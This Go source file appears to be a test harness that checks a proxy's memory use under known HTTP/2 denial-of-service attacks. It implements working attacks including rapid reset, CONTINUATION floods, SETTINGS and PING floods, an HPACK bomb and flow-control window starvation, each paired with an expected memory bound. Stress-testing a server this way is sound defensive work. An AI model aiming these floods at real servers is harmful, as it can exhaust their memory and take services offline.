package main

import (
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// What one connection may make the proxy hold, and the bounds that follow. The Go
// runtime lets garbage grow to as much as is in use, hence the factors of two.
const (
	// apart from the attack: what the others' requests leave behind, and buffers that are kept for more.
	atEase = 24 * mib
	// a connection with nothing on it: three goroutines, read and write buffers.
	perConn = 128 * kib
	// a head of 64 KiB as it comes, as a map, and as HTTP/1.1.
	perHead = 2 * 4 * 64 * kib
	// control frames to be answered: 10 000, then net/http ends the connection.
	perQueue = 2 * 10_000 * 256
	// a request in flight: two goroutines, two connections' buffers of 64 KiB, the bridge's 64 KiB.
	perStream = 2 * 256 * kib
	// bodies that nobody reads.
	perWindow = 2 * mib
	atOnce    = 128 // RETRYPROXY_MAX_CONCURRENT_STREAMS
)

// http2Attacks are made by HTTP/2.
var http2Attacks = []attack{
	{name: "rapid reset", conns: 4, ends: true, bound: atEase + 4*atOnce*perStream, why: "4 connections with 128 requests each",
		strike: func(s *strike) error {
			f, err := s.http2(true)
			if err != nil {
				return err
			}
			return s.every(0, func() error {
				id, err := f.begin(f.block("GET", "/slow"), true)
				if err != nil {
					return err
				}
				return f.WriteRSTStream(id, http2.ErrCodeCancel)
			})
		}},
	{name: "CONTINUATION without end", conns: 4, ends: true, bound: atEase + 4*(perConn+perHead), why: "4 heads",
		strike: continuation(strings.Repeat("x", 8*kib), 0)},
	{name: "CONTINUATION without content", conns: 4, ends: true, bound: atEase + 4*(perConn+perHead), why: "4 heads", strike: continuation("", 0)},
	{name: "CONTINUATION byte by byte", conns: 100, ends: true, bound: atEase + 100*(perConn+perHead/8), why: "100 connections", strike: continuation("x", 50*time.Millisecond)},
	{name: "SETTINGS", conns: 4, ends: true, bound: atEase + 4*(perConn+perQueue), why: "4 queues of 10 000 control frames",
		strike: flood(true, func(f *frames) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
		})},
	{name: "SETTINGS, answers unread", conns: 4, ends: true, bound: atEase + 4*(perConn+perQueue), why: "4 queues of 10 000 control frames",
		strike: flood(false, func(f *frames) error { return f.WriteSettings() })},
	{name: "PING", conns: 4, ends: true, bound: atEase + 4*(perConn+perQueue), why: "4 queues of 10 000 control frames",
		strike: flood(true, func(f *frames) error { return f.WritePing(false, [8]byte{}) })},
	{name: "PING, answers unread", conns: 4, ends: true, bound: atEase + 4*(perConn+perQueue), why: "4 queues of 10 000 control frames",
		strike: flood(false, func(f *frames) error { return f.WritePing(false, [8]byte{}) })},
	{name: "PRIORITY", conns: 4, ends: true, bound: atEase + 4*perConn, why: "4 connections",
		strike: flood(true, func(f *frames) error { return f.WritePriority(3, http2.PriorityParam{Weight: 9}) })},
	{name: "frames of an unknown kind", conns: 4, ends: true, bound: atEase + 4*perConn, why: "4 connections",
		strike: flood(true, func(f *frames) error { return f.WriteRawFrame(0x77, 0, 1, make([]byte, 1024)) })},
	{name: "HPACK bomb", conns: 4, ends: true, bound: atEase + 4*(perConn+atOnce*perHead/4), why: "4 connections with 128 heads of 64 KiB", strike: bomb},
	{name: "windows of zero", conns: 4, bound: atEase + 4*atOnce*perStream, why: "4 connections with 128 requests each", strike: zeroWindow},
	{name: "windows that open by a byte", conns: 4, bound: atEase + 4*atOnce*perStream, why: "4 connections with 128 requests each", strike: tinyWindow},
	{name: "streams beyond the most at once", conns: 4, ends: true, bound: atEase + 4*atOnce*perStream, why: "4 connections with 128 requests each",
		strike: func(s *strike) error {
			f, err := s.http2(true)
			if err != nil {
				return err
			}
			return s.every(0, func() error { _, err := f.begin(f.block("POST", "/ok"), false); return err })
		}},
	{name: "DATA without content", conns: 4, ends: true, bound: atEase + 4*(perConn+perStream), why: "4 requests",
		strike: func(s *strike) error {
			f, err := s.http2(true)
			if err != nil {
				return err
			}
			id, err := f.begin(f.block("POST", "/ok"), false)
			if err != nil {
				return err
			}
			return s.every(0, func() error { return f.WriteData(id, false, nil) })
		}},
	{name: "bodies that nobody reads", conns: 4, bound: atEase + 4*(perWindow+atOnce*perStream), why: "4 connections' windows of 1 MiB and 128 requests each", strike: unreadBodies},
}

// continuation sends a head that does not end, a piece every d.
func continuation(piece string, d time.Duration) func(*strike) error {
	return func(s *strike) error {
		f, err := s.http2(true)
		if err != nil {
			return err
		}
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET", "/ok")}); err != nil {
			return err
		}
		// A literal field without indexing: a name of one byte, a long value, then others.
		field := f.block("GET", "/ok", "x-large", piece)
		if len(piece) < 2 {
			field = []byte(piece)
		}
		return s.every(d, func() error {
			if err := f.WriteContinuation(1, false, field); err != nil || d == 0 {
				return err
			}
			return f.out.Flush()
		})
	}
}

// flood sends one kind of frame.
func flood(reads hear, one func(f *frames) error) func(*strike) error {
	return func(s *strike) error {
		f, err := s.http2(reads)
		if err != nil {
			return err
		}
		return s.every(0, func() error { return one(f) })
	}
}

// bomb is a head of a few kilobytes that unpacks to megabytes: one large field
// kept in the table, then named by a byte each time.
func bomb(s *strike) error {
	f, err := s.http2(true)
	if err != nil {
		return err
	}
	large := f.block("GET", "/ok", "x-bomb", strings.Repeat("b", 3*kib))
	block := append(append([]byte(nil), large...), strings.Repeat("\xbe", 8*kib)...) // 62: the newest of the table
	return s.every(0, func() error { _, err := f.begin(block, true); return err })
}

// fill opens as many streams as may be.
func fill(f *frames, path string) error {
	for range atOnce {
		if _, err := f.begin(f.block("GET", path), true); err != nil {
			return err
		}
	}
	return f.out.Flush()
}

// zeroWindow asks for answers and takes none of them.
func zeroWindow(s *strike) error {
	f, err := s.http2(false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	if err := fill(f, "/medium"); err != nil {
		return err
	}
	s.sent.Add(atOnce)
	return s.held(f.nc)
}

// tinyWindow takes them byte by byte.
func tinyWindow(s *strike) error {
	f, err := s.http2(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	if err != nil {
		return err
	}
	if err := fill(f, "/medium"); err != nil {
		return err
	}
	id := uint32(1)
	return s.every(0, func() error {
		id = (id + 2) % (2 * atOnce)
		return f.WriteWindowUpdate(id, 1)
	})
}

// unreadBodies sends bodies to where nobody reads them, as far as the windows let it.
func unreadBodies(s *strike) error {
	f, err := s.http2(true)
	if err != nil {
		return err
	}
	piece := make([]byte, 16*kib)
	for range atOnce {
		id, err := f.begin(f.block("POST", "/deaf"), false)
		if err != nil {
			return err
		}
		if id < 2*60 { // 60 of 16 KiB: less than the connection's window of 1 MiB
			if err := f.WriteData(id, false, piece); err != nil {
				return err
			}
		}
		s.sent.Add(1)
	}
	if err := f.out.Flush(); err != nil {
		return err
	}
	<-s.Done()
	return nil
}
